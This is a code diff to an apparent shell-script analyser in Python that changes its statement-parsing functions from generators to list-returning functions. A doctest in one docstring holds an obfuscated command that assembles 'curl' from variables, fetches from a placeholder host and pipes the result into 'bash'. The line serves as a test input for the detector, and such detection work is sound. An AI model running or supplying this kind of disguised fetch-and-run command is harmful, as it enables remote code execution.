@@ -65,7 +65,7 @@ class _Pipeline:
             self.words += word.split("\x00") if "\x00" in word else [word]
 
 
-def shell_statements(text: str, path: str, *, first_line: int = 1, is_live: bool = True) -> Iterator[Statement]:
+def shell_statements(text: str, path: str, *, first_line: int = 1, is_live: bool = True) -> list[Statement]:
     r"""Read a shell script, or a pasted command line.
 
     >>> [s.text for s in shell_statements('a=cu; b=rl; $a$b -s "http://x.invalid/i" \\\n | b""ash', "x")][-1]
@@ -76,7 +76,8 @@ def shell_statements(text: str, path: str, *, first_line: int = 1, is_live: bool
 
 def _statements(
     text: str, path: str, first_line: int, is_live: bool, known: dict[str, str], depth: int
-) -> Iterator[Statement]:
+) -> list[Statement]:
+    statements: list[Statement] = []
     scope = ""
     group: list[str] = []
     groups = Groups()
@@ -94,15 +95,15 @@ def _statements(
             pipeline.writes.append(groups.sent_to)
         if depth < MAX_DEPTH:
             for offset, inner in pipeline.inner:
-                yield from _statements(inner, path, first_line + offset, is_live, dict(known), depth + 1)
+                statements += _statements(inner, path, first_line + offset, is_live, dict(known), depth + 1)
             heredoc = pipeline.text_of_heredoc
             texts = [*texts_that_run(words, heredoc)]
             if heredoc or (words and words[0] in ("printf", "echo")):
                 texts += scripts_written(words, pipeline.writes, heredoc)
             for inner in texts:
-                yield from _statements(inner, path, line, is_live, dict(known), depth + 1)
+                statements += _statements(inner, path, line, is_live, dict(known), depth + 1)
             if groups.functions or closed:
-                yield from _carried(groups, closed, pipeline, path, first_line, is_live, known, depth)
+                statements += _carried(groups, closed, pipeline, path, first_line, is_live, known, depth)
         if words and words[0] == "|":
             # What a loop or a group prints goes through the pipe behind it.
             words[:0] = group[-_MAX_GROUP:]
@@ -110,7 +111,8 @@ def _statements(
             group += [*words, ";"] if len(words) < _MAX_GROUP else []
             if groups.frames:
                 groups.note((pipeline.line, words, pipeline.text_of_heredoc))
-            yield _statement(words, pipeline, path, line, scope, is_live, known)
+            statements.append(_statement(words, pipeline, path, line, scope, is_live, known))
+    return statements
 
 
 def _carried(
@@ -122,24 +124,26 @@ def _carried(
     is_live: bool,
     known: dict[str, str],
     depth: int,
-) -> Iterator[Statement]:
+) -> list[Statement]:
     """What functions do with what they are called with, and what a group prints into a file."""
+    statements: list[Statement] = []
     for number, words, heredoc in groups.called(pipeline.words):
         body = _Pipeline(line=number, words=words, text_of_heredoc=heredoc)
         for inner in texts_that_run(words, heredoc):
-            yield from _statements(inner, path, first_line + number, is_live, dict(known), depth + 1)
-        yield _statement(words, body, path, first_line + number, "", is_live, dict(known))
+            statements += _statements(inner, path, first_line + number, is_live, dict(known), depth + 1)
+        statements.append(_statement(words, body, path, first_line + number, "", is_live, dict(known)))
     target = next(filter(is_telling, pipeline.writes), "")
     if not target:
-        return
+        return statements
     group = closed or [(pipeline.line, pipeline.words, "")]
     for number, words, heredoc in said_in(group, groups.functions):
         if words is pipeline.words:
             continue
         printed = _Pipeline(line=number, words=list(words), writes=[target], text_of_heredoc=heredoc)
         for inner in scripts_written(words, [target], heredoc):
-            yield from _statements(inner, path, first_line + number, is_live, dict(known), depth + 1)
-        yield _statement(printed.words, printed, path, first_line + number, "", is_live, known)
+            statements += _statements(inner, path, first_line + number, is_live, dict(known), depth + 1)
+        statements.append(_statement(printed.words, printed, path, first_line + number, "", is_live, known))
+    return statements
 
 
 def _statement(
